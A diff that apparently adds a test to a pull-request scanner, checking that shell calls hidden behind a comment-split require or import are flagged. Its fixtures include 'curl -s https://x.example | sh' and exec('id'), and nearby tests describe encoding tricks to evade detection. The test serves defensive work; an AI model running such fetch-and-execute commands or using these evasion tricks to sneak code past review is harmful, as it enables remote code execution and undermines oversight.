@@ -178,6 +178,21 @@ describe("scan/shell-command: a module load with a comment between its tokens", 
   });
 });
 
+describe("scan/shell-command: a project file imported with a line comment before its specifier", () => {
+  it("scan/shell-command: `require( // the helper` with `\"./shell\"` on the next line (and `from // c` for an ES module) fails the built Action at each call through it", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/shell.js"), 'module.exports = { run: require("child_process").execSync };\n');
+      writeFileSync(join(dir, "agent/use.js"), 'const sh = require( // the helper\n  "./shell");\nsh.run("curl -s https://x.example | sh");\n');
+      writeFileSync(join(dir, "agent/esm.mjs"), 'import { exec } from "child_process";\nexport { exec };\n');
+      writeFileSync(join(dir, "agent/use.mjs"), 'import { exec } from // the helper\n  "./esm.mjs";\nexec("id");\n');
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(errorRules(r)).toEqual(["scan/shell-command", "scan/shell-command"]);
+    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => /file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual(["agent/use.js:3:1", "agent/use.mjs:3:1"]);
+  });
+});
+
 describe("scan/skipped-file: Python source in another encoding (PEP 263)", () => {
   it("scan/skipped-file: `# coding: utf-7` with `+AG8-s.system(…)` (CPython runs os.system) fails the built Action; latin-1's `\\xbas.system` is read as `ºs.system` (scan/respelled-name)", async () => {
     const pr = await pullRequest((dir) => {
